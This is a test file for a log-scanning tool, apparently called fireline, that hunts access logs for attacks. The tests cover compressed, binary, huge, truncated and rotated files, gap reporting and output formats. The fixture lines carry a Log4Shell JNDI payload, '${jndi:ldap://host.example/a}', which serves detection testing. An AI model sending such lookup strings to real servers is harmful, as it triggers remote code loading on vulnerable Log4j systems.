import type { ChildProcess } from 'node:child_process'
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { afterAll, expect, test } from 'vitest'
import type { AttackFinding, Gap } from '../../src/core/index.ts'
import { chance } from '../kit/chance.ts'
import { type Ended, fireline, type RunOptions } from '../kit/fireline.ts'

const folder = mkdtempSync(join(tmpdir(), 'fireline-hunt-'))
afterAll(() => rmSync(folder, { recursive: true }))

/** A line of an access log with an attack that names `host`. */
const attack = (host: string): string =>
  `203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "\${jndi:ldap://${host}.example/a}"\n`
const benign = '203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "curl/8"\n'

function put(path: string, content: Uint8Array | string): string {
  const whole = join(folder, path)
  mkdirSync(dirname(whole), { recursive: true })
  writeFileSync(whole, content)
  return whole
}

interface Told extends Ended {
  readonly complete: boolean
  readonly findings: readonly AttackFinding[]
  readonly gaps: readonly Gap[]
  readonly stats: Readonly<Record<string, number>>
}

async function hunt(args: readonly string[], options: RunOptions = {}): Promise<Told> {
  const ended = await fireline(['hunt', ...args, '--format', 'json'], { cwd: folder, ...options })
  return { ...(JSON.parse(ended.stdout) as Omit<Told, keyof Ended>), ...ended }
}

const hosts = ({ findings }: { readonly findings: readonly AttackFinding[] }): readonly string[] =>
  findings.map(({ lookup }) => lookup.host?.replace('.example', '') ?? '').toSorted()

test('a folder is read whole, whatever lies in it, and what could not be read is told with its place', async () => {
  const { below } = chance(1)
  const noise = Uint8Array.from({ length: 300_000 }, () => below(256))
  put('mixed/access.log', `${benign}${attack('plain')}`)
  put('mixed/access.log.1.gz', gzipSync(attack('packed')))
  put('mixed/program', Buffer.concat([noise, Buffer.from(`\n${attack('binary')}\0\0\n`), noise]))
  put('mixed/broken.json', `{"a":"\n${attack('before')}{"a":{"b":"\n{"msg":"\${jndi:ldap://inside.example/a}"}\n`)
  put('mixed/half.gz', gzipSync(Buffer.concat([Buffer.from(attack('half')), noise])).subarray(0, 200_000))

  const told = await hunt(['mixed'])

  expect(told.code).toBe(1)
  expect(hosts(told)).toEqual(['before', 'binary', 'half', 'inside', 'packed', 'plain'])
  expect(told.gaps).toEqual([
    {
      at: 'mixed/half.gz',
      because: 'truncated',
      detail: expect.stringMatching(/; \d+ bytes of it, unpacked, were read/) as string,
    },
  ])
})

test('a folder without attacks ends with 0, one that could not be read whole with 2', async () => {
  put('quiet/a.log', benign)
  put('partly/a.gz', gzipSync(benign.repeat(100)).subarray(0, 60))

  expect(await hunt(['quiet'])).toMatchObject({ code: 0, findings: [], gaps: [] })
  expect(await hunt(['partly'])).toMatchObject({ code: 2, findings: [], gaps: [{ because: 'truncated' }] })
})

test('attacks before and behind a line of two gigabytes are found, in little memory', {
  timeout: 300_000,
}, async () => {
  const path = put('huge.log', attack('before'))
  // Of zeros that take no place on the disk.
  truncateSync(path, 2 * 2 ** 30)
  appendFileSync(path, `\n${attack('behind')}`)

  const told = await hunt(['huge.log'], { env: { NODE_OPTIONS: '--max-old-space-size=150' } })

  expect(hosts(told)).toEqual(['before', 'behind'])
  expect(told.stats['bytes']).toBe(statSync(path).size)
  rmSync(path)
})

test('what unpacks to more than is allowed is a gap with its size', async () => {
  put('bomb.gz', gzipSync(Buffer.concat([Buffer.from(attack('first')), Buffer.alloc(30_000_000)])))

  const told = await hunt(['bomb.gz', '--max-bytes', '0.01'])

  expect(hosts(told)).toEqual(['first'])
  expect(told.gaps).toEqual([
    { at: 'bomb.gz', because: 'too-large', detail: expect.stringContaining('more than 10737418 bytes') as string },
  ])
})

test.skipIf(process.getuid?.() === 0)('what may not be read is a gap', async () => {
  chmodSync(put('private/a.log', attack('hidden')), 0)

  expect(await hunt(['private'])).toMatchObject({ code: 2, gaps: [{ at: 'private/a.log', because: 'not-readable' }] })
})

test('a pipe is read as it is or packed, and an end of the reader of results ends the hunt', async () => {
  expect(hosts(await hunt(['-'], { input: attack('piped') }))).toEqual(['piped'])
  expect(hosts(await hunt(['-'], { input: gzipSync(attack('packed')) }))).toEqual(['packed'])
})

test.each(['json', 'jsonl', 'csv', 'html', 'text'])('an attack is told as %s', async (format) => {
  put('one.log', attack('told'))

  const { code, stdout, stderr } = await fireline(['hunt', 'one.log', '--format', format], { cwd: folder })
  expect([code, stderr]).toEqual([1, ''])
  expect(stdout).toContain('told')
})

test.each([
  [['--since', 'yesterdayish'], /--since yesterdayish is not a time/],
  [['--since', '2030-01-01', '--until', '2020-01-01'], /not a time after --since/],
])('%j is a problem that the operator can mend', async (options, says) => {
  put('one.log', attack('told'))

  const { code, stdout, stderr } = await fireline(['hunt', 'one.log', ...options], { cwd: folder })
  expect([code, stdout]).toEqual([3, ''])
  expect(stderr).toMatch(says)
})

/** The names that a hunt which follows has told until now. */
function following(stdout: string): readonly string[] {
  return stdout.split('\n').flatMap((line) => {
    if (!line.includes('"fireline.finding/1"')) return []
    return hosts({ findings: [JSON.parse(line) as AttackFinding] })
  })
}

/** Starts to follow, does what is to be done once it runs, and stops it. What it told is in `output`. */
async function follow(
  output: string,
  during: (child: ChildProcess) => Promise<void>,
  stop: NodeJS.Signals,
): Promise<void> {
  let meanwhile: Promise<void> = Promise.resolve()
  await fireline(['hunt', '--follow', 'live.log', '--state', 'live.state', '--format', 'jsonl'], {
    cwd: folder,
    onStart: (child) => {
      child.stdout?.on('data', (bytes: Buffer) => appendFileSync(output, bytes))
      meanwhile = during(child).finally(() => child.kill(stop))
    },
  })
  await meanwhile
}

async function until(holds: () => boolean): Promise<void> {
  for (let tries = 0; tries < 600 && !holds(); tries++) await wait(50)
  expect(holds()).toBe(true)
}

test('a log is followed while another process appends, rotates and cuts it, and after a kill it goes on where it was', {
  timeout: 180_000,
}, async () => {
  const log = put('live.log', attack('first'))
  const output = put('live.out', '')
  const told = (): readonly string[] => following(readFileSync(output, 'utf8'))
  const state = join(folder, 'live.state')

  await follow(
    output,
    async () => {
      await until(() => told().includes('first'))
      appendFileSync(log, attack('appended'))
      await until(() => told().includes('appended'))
      renameSync(log, `${log}.1`)
      writeFileSync(log, attack('rotated'))
      await until(() => told().includes('rotated'))
      truncateSync(log, 0)
      await wait(1_500)
      appendFileSync(log, attack('cut'))
      await until(() => told().includes('cut'))
      await until(() => existsSync(state))
      await wait(2_500)
    },
    'SIGKILL',
  )
  appendFileSync(log, attack('meanwhile'))
  await follow(output, () => until(() => told().includes('meanwhile')), 'SIGINT')

  expect(told().toSorted()).toEqual(['appended', 'cut', 'first', 'meanwhile', 'rotated'])
})
